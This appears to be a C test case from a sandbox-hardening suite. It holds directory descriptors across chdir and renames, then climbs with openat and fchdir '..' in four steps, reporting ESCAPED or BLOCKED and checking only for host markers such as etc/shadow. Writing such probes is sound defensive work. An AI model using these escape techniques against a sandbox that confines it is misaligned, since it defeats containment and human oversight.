// ccx-attack: hold directory descriptors across chdir and renames, then climb with fchdir/openat ..
// ccx-category: filesystem
// ccx-status: ok
// ccx-steps: 4
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static struct stat root;

/* What shows that dir is not the sandbox's root (a host file, another inode); NULL if it is. */
static const char *outside(int dir)
{
    static const char *const markers[] = {"etc/shadow", "etc/hostname", "var", "home", "boot"};
    struct stat st;

    for (size_t i = 0; i < sizeof(markers) / sizeof(*markers); i++)
        if (fstatat(dir, markers[i], &st, AT_SYMLINK_NOFOLLOW) == 0)
            return markers[i];
    if (fstat(dir, &st) < 0 || st.st_dev != root.st_dev || st.st_ino != root.st_ino)
        return "a root other than the sandbox's";
    return NULL;
}

/* openat(dir, "..") 64 times over; returns the descriptor where the climb ended. */
static int climb(int dir)
{
    for (int i = 0; i < 64; i++) {
        int up = openat(dir, "..", O_PATH | O_DIRECTORY);

        if (up < 0)
            break;
        close(dir);
        dir = up;
    }
    return dir;
}

static void judge(const char *step, int dir)
{
    const char *seen = dir < 0 ? NULL : outside(dir);

    if (dir < 0)
        printf("BLOCKED: %s: %s\n", step, strerror(errno));
    else if (seen)
        printf("ESCAPED: %s: %s\n", step, seen);
    else
        printf("BLOCKED: %s: the climb ends at the sandbox root\n", step);
}

int main(void)
{
    stat("/", &root);
    mkdir("/work/a", 0755);
    mkdir("/work/a/b", 0755);
    mkdir("/work/a/b/c", 0755);

    /* A descriptor taken in the workspace, used after the cwd moved elsewhere. */
    int work = open("/work/a/b/c", O_RDONLY | O_DIRECTORY);
    chdir("/tmp");
    fchdir(work);
    for (int i = 0; i < 64; i++)
        chdir("..");
    judge("fchdir to a held /work fd, then chdir .. x64", open(".", O_PATH | O_DIRECTORY));

    judge("openat(held /work fd, \"..\") x64", climb(dup(work)));

    /* The directory is moved while we hold it: its .. changes under the descriptor. */
    rename("/work/a/b", "/work/moved");
    judge("openat .. from a held fd whose directory was renamed", climb(dup(work)));

    /* The cwd's magic link, held as a descriptor. */
    chdir("/work/a");
    judge("openat .. from an O_PATH fd of /proc/self/cwd",
          climb(open("/proc/self/cwd", O_PATH | O_DIRECTORY)));
    return 0;
}
